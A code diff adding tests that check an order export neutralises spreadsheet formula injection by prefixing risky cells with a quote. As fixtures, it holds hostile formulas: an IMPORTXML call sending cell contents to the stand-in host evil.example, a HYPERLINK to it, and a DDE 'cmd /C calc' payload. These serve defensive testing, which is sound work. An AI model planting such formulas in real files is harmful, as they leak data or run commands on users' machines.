@@ -82,6 +82,33 @@ def test_unknown_values_are_empty_not_none(staff_client):
     )
 
 
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(staff_client):
+    provider = make_provider(name="@SUM(1+1)")
+    service = make_service(provider, name='=HYPERLINK("https://evil.example","Click")')
+    make_order(
+        service,
+        link='=IMPORTXML("https://evil.example/?"&A1,"//a")',
+        status_raw="+1 pending",
+        quantity=100,
+        remains=-5,  # over-delivered: a real number, kept as one
+        status=Status.COMPLETED,
+        charge=Decimal("-0.50"),
+    )
+    [row] = table(staff_client.get(URL))
+    assert row["service"] == '\'=HYPERLINK("https://evil.example","Click")'
+    assert row["link"] == '\'=IMPORTXML("https://evil.example/?"&A1,"//a")'
+    assert row["provider"] == "'@SUM(1+1)"
+    assert row["status_raw"] == "'+1 pending"
+    assert (row["remains"], row["charge"]) == ("-5", "-0.50")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(staff_client, start):
+    make_order(make_service(name=f"{start}cmd|' /C calc'!A0"))
+    [row] = table(staff_client.get(URL))
+    assert row["service"] == f"'{start}cmd|' /C calc'!A0"
+
+
 def test_the_export_applies_the_lists_filters_and_sort(staff_client):
     service = make_service()
     cheap = make_order(service, status=Status.COMPLETED, charge=Decimal("1"))
